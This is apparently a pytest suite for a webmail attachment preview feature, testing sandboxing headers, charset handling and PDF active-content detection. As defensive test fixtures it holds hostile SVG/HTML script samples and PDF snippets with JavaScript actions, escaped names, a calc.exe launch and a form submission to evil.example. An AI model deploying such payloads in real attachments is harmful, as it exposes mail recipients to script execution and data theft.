"""Attachment preview over HTTP against the real Dovecot: what is offered, how the bytes are served.

What a browser does with those headers (a hostile SVG or HTML file runs nothing) is in
tests/browser/test_finding_mail.py."""

from __future__ import annotations

import email
import email.policy
import re
import zlib

import pytest

from tests.mailbox.conftest import build
from webmail.mailbox import preview

pytestmark = [pytest.mark.imap, pytest.mark.django_db]

PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
                    "0000000d49444154789c6360f8cfc0000003010100c9fe92ef0000000049454e44ae426082")
PDF = b"%PDF-1.7\n" + bytes(range(256)) * 12_000 + b"\n%%EOF\n"  # 3 MB
LETTER = ("Szanowni Państwo,\n\nW załączeniu przesyłam sprawozdanie roczne. Zażółć gęślą jaźń.\n" * 200)
HOSTILE_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/pwned")</script></svg>'
HOSTILE_HTML = b"<html><body><script>fetch('/pwned')</script><b>facture</b></body></html>"


@pytest.fixture
def message(signed_in_client, put_mail, uids):
    user = signed_in_client.mail_user
    raw = build(subject="Pièces jointes variées", attachments=[
        ("photo été.png", "image/png", PNG),
        ("rapport annuel.pdf", "application/pdf", PDF),
        ("sprawozdanie.txt", "text/plain", LETTER.encode("iso-8859-2")),
        ("export.csv", "application/octet-stream", "nom;ville\nRenée;Besançon\n".encode()),
        ("dessin.svg", "image/svg+xml", HOSTILE_SVG),
        ("facture.html", "text/html", HOSTILE_HTML),
        ("faux.png", "image/png", HOSTILE_SVG),  # lies about its type
        ("archive.zip", "application/zip", b"PK\x03\x04" + bytes(2000)),
    ])
    put_mail(user, [_declare_charset(raw, "sprawozdanie.txt", "iso-8859-2")])
    [uid] = uids(user)
    return uid


def _declare_charset(raw: bytes, filename: str, charset: str) -> bytes:
    """A Polish mailer's text attachment: Content-Type: text/plain; charset=iso-8859-2."""
    message = email.message_from_bytes(raw, policy=email.policy.default)
    for part in message.iter_attachments():
        if part.get_filename() == filename:
            part.set_param("charset", charset)
    return message.as_bytes()


def _parts(client, uid) -> dict[str, str]:
    """File name → part number, from the download links of the reading pane."""
    page = client.get(f"/mail/{uid}/", {"folder": "INBOX"}).content.decode()
    return {name: part for part, name in re.findall(
        r'href="/mail/\d+/pieces/([^/"]+)/\?folder=INBOX" download>([^<]+)<', page)}


def test_the_reading_pane_offers_a_preview_for_images_pdf_and_text_only(signed_in_client, message):
    page = signed_in_client.get(f"/mail/{message}/", {"folder": "INBOX"}).content.decode()
    offered = re.findall(r'aria-label="Aperçu de ([^"]+)">Aperçu<', page)
    assert offered == ["photo été.png", "rapport annuel.pdf", "sprawozdanie.txt", "export.csv", "faux.png"]


def test_the_preview_page_shows_each_kind(signed_in_client, message):
    parts = _parts(signed_in_client, message)

    def preview_of(name):
        response = signed_in_client.get(f"/mail/{message}/pieces/{parts[name]}/apercu/", {"folder": "INBOX"})
        assert response.status_code == 200
        return response.content.decode()

    html = preview_of("photo été.png")
    assert f'<img src="/mail/{message}/pieces/{parts["photo été.png"]}/?folder=INBOX&amp;inline=1"' in html
    assert "Télécharger" in html and "Revenir au message" in html
    html = preview_of("rapport annuel.pdf")
    assert re.search(r'<iframe class="preview-frame" title="Aperçu de rapport annuel.pdf" src="[^"]+inline=1"', html)
    assert "2,9\xa0Mio · application/pdf" in html
    html = preview_of("sprawozdanie.txt")
    assert "Zażółć gęślą jaźń." in html  # declared ISO-8859-2, shown right
    assert "Seul le début de ce fichier" not in html
    assert "Renée;Besançon" in preview_of("export.csv")  # octet-stream, but named .csv
    for name in ("dessin.svg", "facture.html", "archive.zip"):
        html = preview_of(name)
        assert "Ce type de fichier ne peut pas être affiché ici." in html
        assert "<iframe" not in html.split('id="preview-title"')[1] and "pwned" not in html


@pytest.mark.parametrize(("name", "served"), [
    ("photo été.png", "image/png"),
    ("rapport annuel.pdf", "application/pdf"),
    ("sprawozdanie.txt", "text/plain; charset=utf-8"),
    ("export.csv", "text/plain; charset=utf-8"),
    ("faux.png", "image/png"),  # shown as an image: nosniff, so a browser never reads it as SVG
])
def test_inline_bytes_are_sandboxed(signed_in_client, message, name, served):
    part = _parts(signed_in_client, message)[name]
    response = signed_in_client.get(f"/mail/{message}/pieces/{part}/", {"folder": "INBOX", "inline": "1"})
    assert response.status_code == 200
    assert response["Content-Type"] == served
    assert response["Content-Disposition"].startswith("inline;")
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert "default-src 'none'" in policy and policy.endswith("; sandbox") and "frame-ancestors 'self'" in policy
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    if name == "sprawozdanie.txt":
        assert response.content.decode() == LETTER  # re-encoded from ISO-8859-2 to UTF-8


@pytest.mark.parametrize("name", ["dessin.svg", "facture.html", "archive.zip"])
def test_what_cannot_be_previewed_always_downloads_even_when_asked_inline(signed_in_client, message, name):
    part = _parts(signed_in_client, message)[name]
    response = signed_in_client.get(f"/mail/{message}/pieces/{part}/", {"folder": "INBOX", "inline": "1"})
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] in ("application/octet-stream", "application/zip")
    assert response["Content-Security-Policy"].endswith("sandbox")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_long_text_file_shows_its_beginning_and_says_so(signed_in_client, put_mail, uids):
    user = signed_in_client.mail_user
    journal = "".join(f"{n:06d} ligne du journal — état « ok »\n" for n in range(20_000))  # ~800 KB
    put_mail(user, [build(attachments=[("serveur.log", "text/plain", journal.encode())])])
    [uid] = uids(user)
    html = signed_in_client.get(f"/mail/{uid}/pieces/2/apercu/", {"folder": "INBOX"}).content.decode()
    assert "Seul le début de ce fichier est affiché. Téléchargez-le pour le lire en entier." in html
    assert "000000 ligne du journal" in html and "019999 ligne" not in html


def test_missing_attachment_or_message_is_a_404_with_a_sentence(signed_in_client, message):
    response = signed_in_client.get(f"/mail/{message}/pieces/42/apercu/", {"folder": "INBOX"})
    assert response.status_code == 404 and "Cette pièce jointe n’existe pas." in response.content.decode()
    response = signed_in_client.get("/mail/99999/pieces/2/apercu/", {"folder": "INBOX"})
    assert response.status_code == 404 and "n’existe plus" in response.content.decode()
    assert signed_in_client.get(f"/mail/{message}/pieces/2/apercu/", {"folder": "\x00"}).status_code == 400


def test_text_decoding_rules():
    assert preview.text_of("é".encode("cp1252"), None).text == "é"  # undeclared, not UTF-8
    assert preview.text_of("żółw".encode("iso-8859-2"), "iso-8859-2").text == "żółw"
    assert preview.text_of("żółw".encode(), "no-such-charset").text == "żółw"
    cut = ("é" * preview.TEXT_LIMIT).encode()  # the limit falls inside a character
    shown = preview.text_of(cut, "utf-8")
    assert shown.truncated and set(shown.text) == {"é"} and len(shown.text) == preview.TEXT_LIMIT // 2


@pytest.mark.parametrize(("content_type", "filename", "kind"), [
    ("image/png", "a.png", "image"), ("image/jpeg", "a", "image"), ("image/svg+xml", "a.svg", None),
    ("application/pdf", "a", "pdf"), ("application/octet-stream", "scan.PDF", "pdf"),
    ("text/plain", "a", "text"), ("text/html", "a.txt", None), ("application/octet-stream", "a.svg", None),
    ("application/octet-stream", "a.html", None), ("application/zip", "a.pdf", None),
])
def test_kind_of(content_type, filename, kind):
    assert preview.kind_of(content_type, filename) == kind


def _objstm_pdf(dictionary: bytes) -> bytes:
    """A PDF 1.5 whose catalog sits in a compressed object stream, as modern writers save them."""
    packed = zlib.compress(b"1 0 " + dictionary)
    return (b"%PDF-1.5\n" + b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(packed) + packed + b"\nendstream\nendobj\n%%EOF\n")


@pytest.mark.parametrize(("data", "active"), [
    (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj", False),
    (PDF, False),
    (b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj", True),
    (b"%PDF-1.4\n1 0 obj << /AA << /O << /S /J#61vaScript /J#53 (x) >> >> >> endobj", True),  # escaped names
    (b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (calc.exe) >> >> endobj", True),
    (b"%PDF-1.4\n1 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj", True),
    (_objstm_pdf(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>"), True),
    (_objstm_pdf(b"<< /Type /Catalog /Pages 3 0 R /JSON_like_name 1 >>"), False),
    (b"%PDF-1.5\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream", True),
])
def test_a_pdf_with_scripts_or_actions_is_recognised(data, active):
    assert preview.pdf_has_active_content(data) is active


def test_a_pdf_with_a_script_is_not_shown_but_downloads(signed_in_client, put_mail, uids):
    user = signed_in_client.mail_user
    scripted = _objstm_pdf(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert('x')) >> >>")
    put_mail(user, [build(attachments=[("relevé.pdf", "application/pdf", scripted)])])
    [uid] = uids(user)
    html = signed_in_client.get(f"/mail/{uid}/pieces/2/apercu/", {"folder": "INBOX"}).content.decode()
    assert "Ce PDF contient des scripts ou des actions : par prudence, il n’est pas affiché ici." in html
    assert "preview-frame" not in html
    response = signed_in_client.get(f"/mail/{uid}/pieces/2/", {"folder": "INBOX", "inline": "1"})
    assert response["Content-Disposition"].startswith("attachment;") and response.content == scripted
